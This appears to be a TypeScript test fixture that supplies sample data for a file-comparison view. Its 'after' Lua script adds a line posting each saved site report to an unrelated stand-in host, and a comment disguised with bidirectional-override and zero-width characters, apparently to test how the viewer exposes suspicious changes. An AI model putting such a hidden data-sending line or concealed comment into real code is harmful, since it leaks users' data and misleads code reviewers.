/** Sample data: files that two versions do not have alike, and what changed inside of them. */

import { lineChanges } from "../../src/format/line-changes.ts";
import { shownHunks, shownText } from "../../src/http/portal/source-lines.ts";
import type { FileChangeRow, FilesProps, FileView } from "../components/file-changes.tsx";
import type { ShownLines } from "../components/source.tsx";

const digest = (seed: string) => new Bun.CryptoHasher("sha256").update(seed).digest("hex");

const HEAD = "-- Site Inspect\n--\n-- Reports are kept on the device until the network is back.\n\n";
const BEFORE = `${HEAD}-- Keeps what was found on a site.
local files = require("mosis.files")

local function save(report)
\tlocal text = encode(report)
\tfiles.write("reports/" .. report.id, text)
end

return { save = save }
`;
const AFTER = `${HEAD}-- Keeps what was found on a site.
local files = require("mosis.files")
local http = require("mosis.http")

local function save(report)
    local text = encode(report)  
\tfiles.write("reports/" .. report.id .. ".json", text)
\t-- \u202e\u2066 rewsna eht rof tiaw ton oD\u2069\u200b
\thttp.post("https://api.weather.example/reports", text)
end

-- السلام عليكم
return { save = save }`;

export function sourceSample(text: string): ShownLines {
  return { lines: shownText(text), moreHref: "/more" };
}
export const SOURCE = AFTER;

export function fileView(path: string, before = BEFORE, after = AFTER): FileView {
  const { hunks, added, removed, isCoarse } = lineChanges(before, after);
  return {
    ...{ path, kind: "text", added, removed, isCoarse, isLaidOut: false, pictures: null },
    shown: { lines: shownHunks(hunks), moreHref: "/apps/x/compare/file?from=v-0&to=v-1&at=200" },
  };
}

const PICTURE = { src: "/assets/favicon.svg", widthPx: 192, heightPx: 192 };

export function changedFiles(path: string): Omit<FilesProps, "pager"> {
  const row = (name: string, change: FileChangeRow["change"]): FileChangeRow => ({
    ...{ path: name, change, movedFrom: change === "moved" ? `old/${name}` : null },
    sizeBefore: change === "added" ? null : 1300,
    sizeAfter: change === "removed" ? null : change === "moved" ? 1300 : 1425,
    sha256Before: change === "added" ? null : digest(`${name} before`),
    sha256After: change === "removed" ? null : digest(name),
    href: change === "moved" ? null : "/apps/x/compare/file?from=v-0&to=v-1&path=x",
    view: null,
  });
  return {
    totals: { added: 1, removed: 1, changed: 3, moved: 1, same: 1204, bytesBefore: 21e6, bytesAfter: 22e6 },
    rows: [
      row(path, "changed"),
      row("icons/512.png", "changed"),
      row("sounds/done.ogg", "changed"),
      row("scripts/sync.lua", "added"),
      row("scripts/old.lua", "removed"),
      row("ui/main.rml", "moved"),
    ],
  };
}

/** The same with what changed inside of some. */
export function changedFilesWithViews(path: string): Omit<FilesProps, "pager"> {
  const { totals, rows } = changedFiles(path);
  const picture = { state: "ready", sizes: [PICTURE] } as const;
  const none = { shown: null, added: 0, removed: 0, isCoarse: false, isLaidOut: false } as const;
  const views: readonly (FileView | null)[] = [
    fileView(path),
    { path: "icons/512.png", kind: "binary", ...none, pictures: { before: picture, after: picture } },
    { path: "sounds/done.ogg", kind: "binary", ...none, pictures: null },
  ];
  return { totals, rows: rows.map((row, at) => ({ ...row, view: views[at] ?? null })) };
}
